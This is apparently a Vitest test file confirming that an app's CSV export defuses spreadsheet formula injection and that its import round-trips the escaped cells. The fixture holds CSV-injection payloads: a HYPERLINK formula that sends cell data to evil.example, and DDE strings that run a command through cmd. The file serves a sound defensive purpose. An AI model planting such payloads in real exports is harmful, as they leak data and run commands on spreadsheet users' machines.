/**
 * The CSV export defuses formulas (OWASP CSV injection): a cell that starts
 * with =, +, - or @ reaches a spreadsheet as text. Our own import reads the
 * export back as it was.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { db } from '@/lib/db';
import { GET } from '@/app/api/v1/events.csv/route';
import { toCsv, unescapeCsvCell } from '@/lib/csv';
import { parseImport } from '@/lib/import/parse';
import { writeDataset } from '../../lib/seed/write';
import { buildDataset, buildEvent, buildSource } from '../support/factories';

const hostile = {
  title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  summary: '+cmd|" /C calc"!A0',
  location: '@SUM(1+1)*cmd|" /C calc"!A0',
};

describe('CSV export', () => {
  it('prefixes formula-like cells with an apostrophe and leaves the rest alone', () => {
    const [row] = parse(toCsv([['=1+1', '+1', '-1', '@A1', '\t=1', 'plain', '2025-01-01', '']]));
    expect(row).toEqual(["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", 'plain', '2025-01-01', '']);
    expect(row.map(unescapeCsvCell)).toEqual(['=1+1', '+1', '-1', '@A1', '\t=1', 'plain', '2025-01-01', '']);
  });

  const slug = `csv-formula-${Math.random().toString(36).slice(2, 8)}`;
  // The event is published: other files count the published events, so it must not outlive this one.
  afterAll(async () => {
    const prisma = await db();
    await prisma.event.deleteMany({ where: { slug } });
    await prisma.source.deleteMany({ where: { id: `${slug}-source` } });
  });

  it('escapes every hostile cell of /api/v1/events.csv, and the import reads the file back unchanged', async () => {
    const source = buildSource({ id: `${slug}-source` });
    const prisma = await db();
    await writeDataset(
      prisma,
      buildDataset({
        sources: [source],
        events: [buildEvent(source.id, { slug, title: hostile.title, summary: hostile.summary, location: hostile.location })],
      }),
    );

    const response = await GET(new Request(`http://backchannel.test/api/v1/events.csv?q=${encodeURIComponent('HYPERLINK')}`));
    expect(response.status).toBe(200);
    const text = await response.text();
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r.slug === slug);
    expect(row).toBeDefined();
    expect(row!.title).toBe(`'${hostile.title}`);
    expect(row!.summary).toBe(`'${hostile.summary}`);
    expect(row!.location).toBe(`'${hostile.location}`);
    // No cell of the whole file starts a formula.
    for (const r of rows) for (const cell of Object.values(r)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);

    const imported = parseImport(text, { fileName: 'export.csv' });
    const item = imported.ok ? imported.rows.find((r) => r.event?.slug === slug) : undefined;
    expect(item?.event).toMatchObject({ title: hostile.title, summary: hostile.summary, location: hostile.location });
  });
});
